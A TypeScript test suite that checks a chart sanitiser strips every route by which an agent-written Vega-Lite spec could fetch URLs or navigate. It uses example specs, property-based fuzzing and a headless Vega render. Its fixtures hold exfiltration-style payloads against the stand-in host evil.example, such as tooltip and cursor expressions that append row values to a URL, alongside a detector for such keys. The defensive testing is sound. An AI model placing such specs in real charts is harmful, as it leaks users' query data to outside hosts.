/**
 * Charts that cannot call out: `sqlChartSpec` of a hostile `vegaSpec` — whatever it holds, at
 * any depth — is a spec with the result's rows as its only data, and nothing that could load a
 * URL or navigate. Shown three ways: by example, for each way a spec can call out; as
 * properties of arbitrary nested hostile specs (fast-check); and drawn by the real renderer
 * (vega-lite compiled to Vega, a Vega View rendering SVG headless, with a loader that records
 * every request it is asked for), which sees no request, while the rows are drawn.
 */
import fc from 'fast-check';
import * as vega from 'vega';
import { expressionInterpreter } from 'vega-interpreter';
import { compile, type TopLevelSpec } from 'vega-lite';
import { describe, expect, it } from 'vitest';
import { sqlChartSpec, sqlRows } from '../../src/chat/answer.js';

const EVIL = 'https://evil.example';

const RESULT = {
  schema: [
    { name: 'region', column_type: 'String' },
    { name: 'revenue', column_type: 'Double' },
  ],
  data: [
    ['EU', 10.5],
    ['US', 20],
    ['APAC', 7.25],
  ],
};
const ROWS = sqlRows(RESULT);

/** The chart of `spec` written by the agent. */
const chartOf = (spec: unknown, config?: object) => sqlChartSpec({ ...RESULT, vegaSpec: JSON.stringify(spec) }, config);

const bars = { x: { field: 'region', type: 'nominal' }, y: { field: 'revenue', type: 'quantitative' } };

/** Every value in `value`, at any depth, with the key that holds it (`undefined` for an array's items and the top). */
function* entries(value: unknown): Generator<{ key: string | undefined; value: unknown; parent: unknown }> {
  if (typeof value !== 'object' || value === null) return;
  for (const [childKey, child] of Object.entries(value)) {
    const name = Array.isArray(value) ? undefined : childKey;
    yield { key: name, value: child, parent: value };
    yield* entries(child);
  }
}

/** What no inert chart holds, wherever it is: a description of each thing found. */
function callingOut(chart: Record<string, unknown>): string[] {
  const found: string[] = [];
  for (const { key, value, parent } of entries(chart)) {
    if (key === 'url' || key === 'href') found.push(`${key}: ${JSON.stringify(value)}`);
    if (key === 'datasets' || key === 'usermeta' || key === 'signals' || key === 'tooltip') found.push(key);
    if (key === 'data' && parent !== chart) found.push(`nested data ${JSON.stringify(value)}`);
    if (
      key === 'mark' &&
      (value === 'image' ||
        (typeof value === 'object' && value !== null && (value as { type?: unknown }).type === 'image'))
    )
      found.push('an image mark');
    if (key === 'cursor' && !(typeof value === 'string' && /^[a-z-]+$/.test(value)))
      found.push(`cursor ${JSON.stringify(value)}`);
    if (key === 'name' && value === 'cursor') found.push('a parameter named cursor');
    if (key === 'lookup' && typeof parent === 'object' && parent !== null && 'from' in parent) {
      const from = (parent as { from?: unknown }).from;
      if (typeof from === 'object' && from !== null && 'data' in from) found.push('a lookup from data');
    }
    if (typeof value === 'string' && /url\s*\(/i.test(value)) found.push(`a CSS url: ${value}`);
  }
  return found;
}

describe('sqlChartSpec: nothing in the chart can call out', () => {
  it.each([
    ['the top data, a URL', { data: { url: `${EVIL}/data.json` }, mark: 'bar' }],
    ['a named data set', { datasets: { stolen: [{ a: 1 }] }, data: { name: 'stolen' }, mark: 'bar' }],
    [
      'a layer’s data, a URL',
      { layer: [{ mark: 'bar' }, { data: { url: `${EVIL}/layer.csv`, format: { type: 'csv' } }, mark: 'point' }] },
    ],
    [
      'a lookup’s data, a URL',
      {
        transform: [{ lookup: 'region', from: { data: { url: `${EVIL}/lookup.json` }, key: 'region', fields: ['x'] } }],
        mark: 'bar',
      },
    ],
    [
      'a projection’s shapes, a URL',
      {
        layer: [
          { data: { url: `${EVIL}/world.json`, format: { type: 'topojson', feature: 'countries' } }, mark: 'geoshape' },
          { mark: 'bar' },
        ],
      },
    ],
    ['an href channel', { mark: 'bar', encoding: { ...bars, href: { field: 'region' } } }],
    ['an href on the mark', { mark: { type: 'bar', href: `${EVIL}/go` } }],
    [
      'an href in config',
      { mark: 'bar', config: { mark: { href: `${EVIL}/go` }, style: { evil: { href: `${EVIL}/style` } } } },
    ],
    ['a url channel', { mark: 'bar', encoding: { ...bars, url: { value: `${EVIL}/x.png` } } }],
    [
      'usermeta (vega-embed’s options)',
      { mark: 'bar', usermeta: { embedOptions: { ast: false, loader: { baseURL: EVIL } } } },
    ],
    [
      'a tooltip (an image entry is drawn as <img>)',
      {
        mark: { type: 'bar', tooltip: { expr: `{image: '${EVIL}/?' + datum.revenue}` } },
        encoding: { ...bars, tooltip: [{ field: 'region' }] },
      },
    ],
    ['a cursor of a URL', { mark: { type: 'bar', cursor: `url(${EVIL}/c.png), auto` } }],
    [
      'a cursor from an expression',
      { mark: { type: 'bar', cursor: { expr: `'url(${EVIL}/' + datum.revenue + ')'` } } },
    ],
    ['a parameter named cursor', { mark: 'bar', params: [{ name: 'cursor', value: `url(${EVIL}/c.png), auto` }] }],
    [
      'Vega signals through config',
      { mark: 'bar', config: { signals: [{ name: 'cursor', value: `url(${EVIL}/c.png)` }] } },
    ],
    ['a fill of a CSS url, escaped', { mark: { type: 'bar', fill: 'u\\72 l(https://evil.example/f.svg#p)' } }],
  ])('leaves out %s', (_label, spec) => {
    const chart = chartOf(spec)!;
    expect(chart).toBeDefined();
    expect(callingOut(chart)).toEqual([]);
    expect(JSON.stringify(chart)).not.toContain('evil.example');
    expect(chart.data).toEqual({ values: ROWS });
  });

  it('leaves out image marks at any depth; a spec of images alone is no chart', () => {
    const image = { mark: { type: 'image', url: `${EVIL}/a.png` }, encoding: { url: { field: 'region' } } };
    const chart = chartOf({
      vconcat: [
        { layer: [{ mark: 'bar', encoding: bars }, image] },
        image,
        { facet: { field: 'region' }, spec: { layer: [image] } },
      ],
    })!;
    expect(chart.vconcat).toEqual([
      { layer: [{ mark: 'bar', encoding: bars }] },
      { facet: { field: 'region' }, spec: { layer: [] } },
    ]);
    // A facet or a repeat of images alone is left out with its spec.
    expect(
      chartOf({
        hconcat: [{ mark: 'bar' }, { facet: { field: 'region' }, spec: image }, { repeat: ['revenue'], spec: image }],
      })!.hconcat,
    ).toEqual([{ mark: 'bar' }]);
    expect(chartOf(image)).toBeUndefined();
    expect(chartOf({ mark: 'Image' })).toBeUndefined();
  });

  it('keeps what draws the chart: marks, encodings, transforms, params, a keyword cursor, the Vega-Lite schema', () => {
    const spec = {
      $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
      title: 'Revenue by region',
      mark: { type: 'bar', cursor: 'pointer' },
      encoding: bars,
      transform: [{ filter: 'datum.revenue > 0' }, { lookup: 'region', from: { param: 'pick', key: 'region' } }],
      params: [{ name: 'pick', select: 'point' }],
      config: { axis: { labelColor: '#666' } },
    };
    expect(chartOf(spec)).toEqual({ ...spec, data: { values: ROWS } });
  });

  it('leaves out a $schema other than Vega-Lite’s: vega-embed would draw the spec as Vega', () => {
    expect(chartOf({ $schema: 'https://vega.github.io/schema/vega/v5.json', mark: 'bar' })).toEqual({
      mark: 'bar',
      data: { values: ROWS },
    });
    expect(chartOf({ $schema: `${EVIL}/vega-lite/v5.json`, mark: 'bar' })).toEqual({
      mark: 'bar',
      data: { values: ROWS },
    });
  });

  it('merges the caller’s config last, over what is left of the spec’s', () => {
    const chart = chartOf(
      { mark: 'bar', config: { mark: { href: `${EVIL}/x`, color: 'red' }, signals: [] } },
      { mark: { color: 'blue' }, background: 'transparent' },
    )!;
    expect(chart.config).toEqual({ mark: { color: 'blue' }, background: 'transparent' });
  });

  it('a spec nested 100,000 levels deep is no stack overflow: the deep part is left out', () => {
    const deep = `{"mark":"bar","encoding":${'{"x":'.repeat(100_000)}1${'}'.repeat(100_000)}}`;
    const chart = sqlChartSpec({ ...RESULT, vegaSpec: deep });
    expect(chart?.mark).toBe('bar');
    expect(JSON.stringify(chart).length).toBeLessThan(1_000);
  });
});

// ---- Properties: arbitrary nested hostile specs ------------------------------------------------

/** The keys a hostile spec is made of: those that draw, those that call out, and those that nest specs. */
const KEYS = [
  'url',
  'href',
  'data',
  'datasets',
  'usermeta',
  'signals',
  'tooltip',
  'cursor',
  'name',
  'mark',
  'type',
  'layer',
  'concat',
  'hconcat',
  'vconcat',
  'spec',
  'facet',
  'repeat',
  'transform',
  'lookup',
  'from',
  'encoding',
  'config',
  'params',
  'values',
  'field',
  'x',
  '$schema',
  '__proto__',
  'embedOptions',
];
const HOSTILE_STRINGS = [
  'image',
  'Image',
  `${EVIL}/x`,
  `url(${EVIL}/x)`,
  'URL (x)',
  'u\\72l(x)',
  'pointer',
  'cursor',
  'bar',
  'https://vega.github.io/schema/vega/v5.json',
];

const hostileSpec = fc.letrec<{ value: unknown; object: Record<string, unknown> }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constantFrom(...HOSTILE_STRINGS),
    fc.string(),
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    tie('object'),
  ),
  object: fc.dictionary(fc.constantFrom(...KEYS), tie('value'), { maxKeys: 5 }),
}));

/** A spec as the agent's JSON text (an own `__proto__` key of fast-check's making included). */
const asJson = (value: unknown): string => JSON.stringify(value);

describe('sqlChartSpec: properties of any hostile spec', () => {
  it('no url or href anywhere, no image mark, no other data, nothing else that calls out; the data is the rows', () => {
    fc.assert(
      fc.property(hostileSpec.object, (spec) => {
        const chart = sqlChartSpec({ ...RESULT, vegaSpec: asJson(spec) });
        if (chart === undefined) return;
        expect(callingOut(chart)).toEqual([]);
        expect(chart.data).toEqual({ values: ROWS });
      }),
      { numRuns: 2_000 },
    );
  });

  it('the chart is made once: the chart of a chart is itself; the spec text is not changed; the chart has plain prototypes', () => {
    fc.assert(
      fc.property(hostileSpec.object, (spec) => {
        const text = asJson(spec);
        const chart = sqlChartSpec({ ...RESULT, vegaSpec: text });
        if (chart === undefined) return;
        expect(sqlChartSpec({ ...RESULT, vegaSpec: JSON.stringify(chart) })).toEqual(chart);
        for (const { value } of entries(chart)) {
          if (typeof value === 'object' && value !== null)
            expect([Object.prototype, Array.prototype]).toContain(Object.getPrototypeOf(value));
        }
        expect(asJson(spec)).toBe(text);
      }),
      { numRuns: 500 },
    );
  });
});

// ---- The real renderer -------------------------------------------------------------------------

/** A Vega loader that records every request it is asked for, and makes none. */
function recordingLoader(): { loader: vega.Loader; requests: string[] } {
  const requests: string[] = [];
  const refuse = async (what: string, uri: string): Promise<never> => {
    requests.push(`${what} ${uri}`);
    throw new Error(`no request in a test: ${uri}`);
  };
  const loader = {
    load: (uri: string) => refuse('load', uri),
    sanitize: async (uri: string, options?: { context?: string }) => {
      requests.push(`sanitize(${options?.context}) ${uri}`);
      return { href: '' };
    },
    http: (uri: string) => refuse('http', uri),
    file: (uri: string) => refuse('file', uri),
  };
  return { loader: loader as unknown as vega.Loader, requests };
}

/** Every scene item with a datum of a result's row (a drawn row), at any depth of the scene. */
function drawnRows(scene: unknown, found: unknown[] = []): unknown[] {
  if (typeof scene !== 'object' || scene === null) return found;
  const { items, datum } = scene as { items?: unknown[]; datum?: { region?: unknown } };
  if (
    datum &&
    typeof datum.region === 'string' &&
    (scene as { mark?: { marktype?: string } }).mark?.marktype === 'rect'
  )
    found.push(datum);
  for (const item of items ?? []) drawnRows(item, found);
  return found;
}

/** Vega's scene graph as JSON (vega exports `sceneToJSON`, which its types leave out). */
const sceneToJson = (vega as unknown as { sceneToJSON(scene: unknown): string }).sceneToJSON;

/** Draws a Vega-Lite spec as a page would — compiled, parsed, run, rendered to SVG — and says what it asked for. */
async function draw(chart: Record<string, unknown>) {
  const { loader, requests } = recordingLoader();
  const { spec } = compile(chart as unknown as TopLevelSpec);
  const view = new vega.View(vega.parse(spec as vega.Spec, undefined, { ast: true }), {
    loader,
    renderer: 'none',
    expr: expressionInterpreter,
  } as never);
  await view.runAsync();
  const svg = await view.toSVG();
  const root = (view.scenegraph() as unknown as { root: unknown }).root;
  const scene = sceneToJson(root);
  const signals = JSON.stringify(view.getState({ signals: () => true, data: () => false }));
  view.finalize();
  return { requests, svg, scene, signals, rows: drawnRows(root) };
}

/** A spec that tries every way out at once, in a layer, a concatenation, a facet and a repeat. */
const HOSTILE = {
  $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
  datasets: { stolen: [{ region: 'XX', revenue: 1 }] },
  usermeta: { embedOptions: { ast: false, loader: { baseURL: EVIL } } },
  params: [{ name: 'cursor', value: `url(${EVIL}/param-cursor.png), auto` }],
  config: { mark: { href: `${EVIL}/config-href` }, signals: [{ name: 'leak', value: `${EVIL}/config-signal` }] },
  vconcat: [
    {
      transform: [
        { lookup: 'region', from: { data: { url: `${EVIL}/lookup.json` }, key: 'region', fields: ['extra'] } },
      ],
      layer: [
        {
          mark: {
            type: 'bar',
            href: `${EVIL}/mark-href`,
            cursor: { expr: `'url(${EVIL}/cursor?' + datum.revenue + ')'` },
            tooltip: { expr: `{image: '${EVIL}/tip?' + datum.revenue}` },
          },
          encoding: { ...bars, href: { field: 'region' }, url: { value: `${EVIL}/url-channel` } },
        },
        {
          mark: { type: 'image', url: `${EVIL}/image-mark.png`, width: 10, height: 10 },
          encoding: { ...bars, url: { value: `${EVIL}/image.png?leak` } },
        },
        { data: { url: `${EVIL}/layer.json` }, mark: 'point', encoding: bars },
        { data: { name: 'stolen' }, mark: 'tick', encoding: bars },
      ],
    },
    {
      facet: { field: 'region', type: 'nominal' },
      spec: { mark: { type: 'image', url: `${EVIL}/facet.png` }, encoding: { url: { field: 'region' } } },
    },
    {
      repeat: ['revenue'],
      spec: {
        mark: 'point',
        encoding: { x: { field: { repeat: 'repeat' }, type: 'quantitative' }, href: { value: `${EVIL}/repeat` } },
      },
    },
  ],
};

describe('sqlChartSpec: drawn by Vega, a hostile spec asks for nothing', () => {
  it('no request, no link, no cursor URL, no evil URL anywhere in the drawing; every row is drawn', async () => {
    const chart = chartOf(HOSTILE)!;
    const drawn = await draw(chart);
    expect(drawn.requests).toEqual([]);
    for (const output of [drawn.svg, drawn.scene, drawn.signals]) expect(output).not.toContain('evil.example');
    expect(drawn.svg).not.toMatch(/href=/);
    // The bars and the ticks, of the result's rows and no others (not the spec's own data set).
    expect(drawn.rows.map((row) => (row as { region: string }).region)).toEqual([
      'EU',
      'US',
      'APAC',
      'EU',
      'US',
      'APAC',
    ]);
  });

  it.each([
    ['a data URL', { data: { url: `${EVIL}/data.json` }, mark: 'bar', encoding: bars }],
    [
      'an image mark',
      {
        layer: [
          { mark: 'bar', encoding: bars },
          { mark: 'image', encoding: { ...bars, url: { value: `${EVIL}/i.png` } } },
        ],
      },
    ],
    ['a link on every bar', { mark: 'bar', encoding: { ...bars, href: { field: 'region' } } }],
  ])('%s: no request, the bars drawn', async (_label, spec) => {
    const drawn = await draw(chartOf(spec)!);
    expect(drawn.requests).toEqual([]);
    expect(drawn.rows).toHaveLength(3);
  });
});
